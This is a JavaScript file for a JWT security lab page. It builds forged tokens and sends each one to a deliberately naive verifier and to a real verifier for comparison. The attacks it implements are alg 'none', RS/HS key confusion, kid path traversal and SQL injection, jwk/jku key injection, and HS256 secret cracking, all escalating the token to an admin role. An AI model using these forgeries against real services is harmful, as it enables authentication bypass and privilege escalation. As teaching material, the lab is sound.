// The token lab (/lab/jwt): the editor, and the seven attacks, each sent to the deliberately
// naive verifier (/lab/naive/me) and to the real /jwt/api/me, side by side.
import {
  crackHs256, encodePart, es256Sign, fetchJwks, hmacSha256, newEs256KeyPair, publicPem, signingInput,
} from "./jws.js";
import { duration, languageHeaders, t, tParts, utcTime } from "./strings.js";
import { authHeaders, decodeToken, pretty, requestJson, sendable, storedToken, tokenStorage } from "./token.js";

const $ = (selector, root = document) => root.querySelector(selector);
const lab = $("[data-token-lab]");
const config = lab.dataset;
const fields = {
  token: $("[data-token-input]"),
  header: $("[data-header-input]"),
  payload: $("[data-payload-input]"),
  key: $("[data-sign-key]"),
  parts: $("[data-token-parts]"),
  status: $("[data-editor-status]"),
  jsonError: $("[data-json-error]"),
};
// The signature the loaded token came with: kept while the visitor edits without a key.
let originalSignature = "";
// Each edit re-encodes asynchronously (HMAC); only the latest one may write the token.
let encoding = 0;

function element(tag, text, className) {
  const node = document.createElement(tag);
  if (text !== undefined) node.textContent = text;
  if (className) node.className = className;
  return node;
}

function signMode() {
  return $("[data-sign-mode]:checked")?.value ?? "keep";
}

function setSignMode(mode, key = null) {
  const radio = $(`[data-sign-mode][value="${mode}"]`);
  if (radio) radio.checked = true;
  if (key !== null) fields.key.value = key;
}

function showParts(token) {
  const pieces = token.split(".");
  const names = ["part-header", "part-payload", "part-signature"];
  const nodes = [];
  pieces.forEach((piece, i) => {
    if (i > 0) nodes.push(".");
    nodes.push(element("span", piece, names[i] ?? "part-signature"));
  });
  fields.parts.replaceChildren(...nodes);
}

// Times a date can show: a claim of 1e16 (or 1e999, read as Infinity) is shown as it is.
const LATEST_TIME = 8.64e12;

function claimValue(name, value) {
  if (value === undefined) return t("lab.claim.absent");
  if (["exp", "nbf", "iat"].includes(name) && Number.isFinite(value) && Math.abs(value) < LATEST_TIME) {
    const seconds = value - Date.now() / 1000;
    const when = seconds >= 0
      ? t("lab.claim.in", { duration: duration(seconds) })
      : t("lab.claim.ago", { duration: duration(-seconds) });
    return `${value} = ${utcTime(value)} (${when})`;
  }
  return typeof value === "string" ? value : JSON.stringify(value);
}

function showClaims(payload) {
  for (const row of document.querySelectorAll("[data-claim-row]")) {
    $("[data-claim-value]", row).textContent = payload ? claimValue(row.dataset.claimRow, payload[row.dataset.claimRow]) : "";
  }
}

function setStatus(text) {
  fields.status.textContent = text;
}

// The token box is the source: read it into the header and payload boxes.
function readToken() {
  encoding += 1; // an HMAC still being computed for the old parts must not overwrite this token
  const token = fields.token.value.trim();
  fields.jsonError.hidden = true;
  if (!token) {
    fields.parts.replaceChildren();
    showClaims(null);
    return;
  }
  showParts(token);
  try {
    const { parts, header, payload } = decodeToken(token);
    fields.header.value = pretty(header);
    fields.payload.value = pretty(payload);
    originalSignature = parts[2];
    showClaims(payload);
    setStatus("");
  } catch (error) {
    showClaims(null);
    setStatus(error.message);
  }
}

function parseObject(text, which) {
  let value;
  try {
    value = JSON.parse(text);
  } catch (error) {
    throw new Error(t(`lab.json.${which}`, { error: error.message }));
  }
  if (!value || typeof value !== "object" || Array.isArray(value)) {
    throw new Error(t(`lab.json.${which}`, { error: t("lab.json.object") }));
  }
  return value;
}

// The header and payload boxes (and the signature choice) are the source: encode the token.
async function encodeToken() {
  const ticket = ++encoding;
  let header;
  let payload;
  try {
    header = parseObject(fields.header.value, "header");
    payload = parseObject(fields.payload.value, "payload");
  } catch (error) {
    fields.jsonError.textContent = error.message;
    fields.jsonError.hidden = false;
    return;
  }
  fields.jsonError.hidden = true;
  const input = signingInput(header, payload);
  let signature = originalSignature;
  const mode = signMode();
  if (mode === "none") signature = "";
  if (mode === "hs256") signature = await hmacSha256(fields.key.value, input);
  if (ticket !== encoding) return; // a later edit has already been encoded
  fields.token.value = `${input}.${signature}`;
  showParts(fields.token.value);
  showClaims(payload);
}

// Put a token in the editor, as if pasted. `key` null leaves the key box as the visitor left it.
function loadToken(token, { mode = "keep", key = null } = {}) {
  fields.token.value = token;
  setSignMode(mode, key);
  readToken();
}

// Put a header and payload in the editor, signed as `mode` says; the encoded token.
async function loadParts(header, payload, { mode = "keep", key = null, signature = "" } = {}) {
  originalSignature = signature;
  fields.header.value = pretty(header);
  fields.payload.value = pretty(payload);
  setSignMode(mode, key);
  await encodeToken();
  return fields.token.value;
}

async function ask(path, token) {
  return requestJson(path, {
    headers: { Authorization: `Bearer ${sendable(token)}` },
    credentials: "omit", // the token alone: no session cookie, no lab_access cookie
  });
}

function verdictBox(kind, { response, body }) {
  const box = element("div", undefined, "verdict-box");
  box.dataset.verifier = kind;
  box.append(element("h4", t(`lab.verifier.${kind}`)));
  if (response === null) {
    box.dataset.outcome = "unreachable";
    box.append(element("p", t("lab.unreachable"), "verdict-refused"));
    return box;
  }
  const accepted = response.ok;
  box.dataset.outcome = accepted ? "accepted" : "refused";
  box.dataset.status = String(response.status);
  box.append(element("p", t(accepted ? "lab.accepted" : "lab.refused", { status: response.status }),
    accepted ? "verdict-ok" : "verdict-refused"));
  if (!accepted) {
    box.append(element("p", t("lab.reason", { reason: body.reason ?? body.message ?? "" })));
  } else if (kind === "naive") {
    const who = body.believes?.username ?? body.believes?.sub ?? "?";
    const admin = body.admin === true;
    box.dataset.admin = String(admin);
    box.append(element("p", t(admin ? "lab.believes.admin" : "lab.believes.user", { username: who })));
    box.append(element("p", t("lab.how", { how: body.how ?? "" }), "hint"));
  } else {
    box.append(element("p", t("lab.real.ok", { username: body.username ?? "?" })));
  }
  return box;
}

// Send the token to both verifiers and show both answers in `target`.
async function sendBoth(token, target) {
  const header = (() => {
    try {
      return JSON.stringify(decodeToken(token).header);
    } catch {
      return "?";
    }
  })();
  target.replaceChildren(element("p", t("lab.sending"), "hint"));
  const [naive, real] = await Promise.all([ask("/lab/naive/me", token), ask("/jwt/api/me", token)]);
  const pair = element("div", undefined, "verdict-pair");
  pair.append(verdictBox("naive", naive), verdictBox("real", real));
  const caption = element("p", undefined, "hint");
  caption.append(...tParts("lab.sent", { header: element("code", header, "sent-header") }));
  target.replaceChildren(caption, pair);
}

function showProblem(target, text) {
  const note = element("p", text, "notice");
  note.dataset.problem = "";
  target.replaceChildren(note);
}

function needOwnToken(target) {
  showProblem(target, t(tokenStorage() === "cookie" ? "lab.need_token.cookie" : "lab.need_token"));
}

function now() {
  return Math.floor(Date.now() / 1000);
}

function randomId() {
  return Array.from(crypto.getRandomValues(new Uint8Array(8)), (b) => b.toString(16).padStart(2, "0")).join("");
}

// The payload a forged token carries: the visitor's own claims if this browser holds a token,
// else a made-up alice; and, in either case, "role": "admin".
function forgedPayload() {
  const mine = storedToken();
  if (mine) {
    try {
      return { ...decodeToken(mine).payload, role: "admin" };
    } catch {
      // not a JWT: make one up
    }
  }
  const issued = now();
  return {
    sub: "1", username: "alice", name: "Alice Liddell", role: "admin",
    iat: issued, exp: issued + 300, iss: config.issuer, aud: config.audience, jti: randomId(),
  };
}

// The lab's weak sample token, put in the editor: {token}, or {problem} saying why there is none.
async function takeWeakSample() {
  const sample = await requestJson("/lab/naive/weak-token", { credentials: "omit" });
  if (sample.response?.ok && typeof sample.body.token === "string") {
    loadToken(sample.body.token);
    return { token: sample.body.token };
  }
  return { problem: t("lab.weak.failed", { status: sample.response?.status ?? "—" }) };
}

const attacks = {
  async tamper(target) {
    const mine = storedToken();
    if (!mine) return needOwnToken(target);
    let decoded;
    try {
      decoded = decodeToken(mine);
    } catch (error) {
      return showProblem(target, error.message);
    }
    const other = decoded.payload.username === "alice"
      ? { sub: "2", username: "bob", name: "Bob the Builder" }
      : { sub: "1", username: "alice", name: "Alice Liddell" };
    return loadParts(decoded.header, { ...decoded.payload, ...other, role: "admin" }, {
      signature: decoded.parts[2],
    });
  },

  none(target, button) {
    return loadParts({ alg: button.dataset.variant, typ: "JWT" }, forgedPayload(), { mode: "none" });
  },

  async confusion(target) {
    let jwks;
    try {
      jwks = await fetchJwks(config.jwksUrl);
    } catch (error) {
      return showProblem(target, t("lab.jwks.failed", { error: error.message }));
    }
    const published = jwks.keys.at(-1);
    if (!published) return showProblem(target, t("lab.jwks.empty"));
    const pem = await publicPem(published);
    return loadParts({ alg: "HS256", typ: "JWT", kid: published.kid }, forgedPayload(), { mode: "hs256", key: pem });
  },

  kid(target, button) {
    const variants = {
      traversal: { kid: "../../../../../../dev/null", key: "" },
      empty: { kid: "", key: "" },
      sql: { kid: "nothing' UNION SELECT 'attacker-key'--", key: "attacker-key" },
    };
    const { kid, key } = variants[button.dataset.variant];
    return loadParts({ alg: "HS256", typ: "JWT", kid }, forgedPayload(), { mode: "hs256", key });
  },

  async embedded(target, button) {
    const { privateKey, publicJwk } = await newEs256KeyPair();
    const header = button.dataset.variant === "jku"
      ? { alg: "ES256", typ: "JWT", jku: `${config.attackerOrigin}/jwks.json#${encodePart({ keys: [publicJwk] })}` }
      : { alg: "ES256", typ: "JWT", jwk: publicJwk };
    const payload = forgedPayload();
    const signature = await es256Sign(privateKey, signingInput(header, payload));
    return loadParts(header, payload, { signature });
  },

  async weak(target) {
    const crackStatus = $("[data-crack-status]");
    const sample = await takeWeakSample();
    if (!sample.token) return showProblem(target, sample.problem);
    let words;
    try {
      const response = await fetch(config.wordsUrl, { headers: languageHeaders });
      if (!response.ok) throw new Error(String(response.status));
      words = (await response.text()).split(/\s+/).filter(Boolean);
    } catch {
      return showProblem(target, t("lab.words.failed"));
    }
    const [head, body, signature] = sample.token.split(".");
    const data = `${head}.${body}`;
    const started = performance.now();
    const found = await crackHs256(data, signature, words, (tried) => {
      crackStatus.textContent = t("lab.crack.trying", { tried, total: words.length });
    });
    const elapsed = Math.round(performance.now() - started);
    if (found.word === null) {
      crackStatus.textContent = t("lab.crack.missed", { total: words.length });
      return null;
    }
    crackStatus.dataset.cracked = found.word;
    crackStatus.textContent = t("lab.crack.found", {
      word: found.word, tried: found.tried, total: words.length, ms: elapsed,
    });
    const { header, payload } = decodeToken(sample.token);
    return loadParts(header, { ...payload, role: "admin", exp: now() + 600 }, { mode: "hs256", key: found.word });
  },

  async claims(target, button) {
    const samples = await requestJson("/jwt/api/lab/claim-samples", {
      headers: authHeaders("GET"),
      credentials: "same-origin", // with cookie storage, the lab_access cookie authenticates this
    });
    if (samples.response?.status === 401 && tokenStorage() === null) return needOwnToken(target);
    const token = samples.body[button.dataset.variant];
    if (!samples.response?.ok || typeof token !== "string") {
      return showProblem(target, t("lab.samples.failed", {
        status: samples.response?.status ?? "—", reason: samples.body.reason ?? samples.body.message ?? "",
      }));
    }
    loadToken(token);
    return token;
  },
};

// One thing at a time: every button of the page waits while an attack or a send runs.
async function busy(task) {
  const buttons = document.querySelectorAll("[data-attack], [data-send], [data-take-mine], [data-take-weak]");
  buttons.forEach((b) => { b.disabled = true; });
  try {
    return await task();
  } finally {
    buttons.forEach((b) => { b.disabled = false; });
  }
}

function runAttack(button) {
  const name = button.dataset.attack;
  const target = $(`[data-verdicts="${name}"]`);
  return busy(async () => {
    try {
      const token = await attacks[name](target, button);
      if (typeof token === "string" && token) await sendBoth(token, target);
    } catch (error) {
      // WebCrypto refusing a key, say: the page says so rather than failing in silence.
      showProblem(target, t("lab.failed", { error: error.message }));
    }
  });
}

fields.token.addEventListener("input", readToken);
fields.header.addEventListener("input", encodeToken);
fields.payload.addEventListener("input", encodeToken);
fields.key.addEventListener("input", () => {
  setSignMode("hs256");
  encodeToken();
});
for (const radio of document.querySelectorAll("[data-sign-mode]")) radio.addEventListener("change", encodeToken);

$("[data-take-mine]").addEventListener("click", () => {
  const mine = storedToken();
  if (mine) {
    loadToken(mine);
    setStatus(t("lab.mine.loaded"));
  } else {
    setStatus(t(tokenStorage() === "cookie" ? "lab.need_token.cookie" : "lab.mine.none"));
  }
});

$("[data-take-weak]").addEventListener("click", () => busy(async () => {
  const sample = await takeWeakSample();
  setStatus(sample.token ? t("lab.weak.loaded") : sample.problem);
}));

$("[data-send]").addEventListener("click", () => {
  const target = $('[data-verdicts="editor"]');
  const token = fields.token.value.trim();
  if (!token) return showProblem(target, t("lab.send.empty"));
  return busy(() => sendBoth(token, target));
});

for (const button of document.querySelectorAll("[data-attack]")) {
  button.addEventListener("click", () => runAttack(button));
}

lab.dataset.ready = "true";
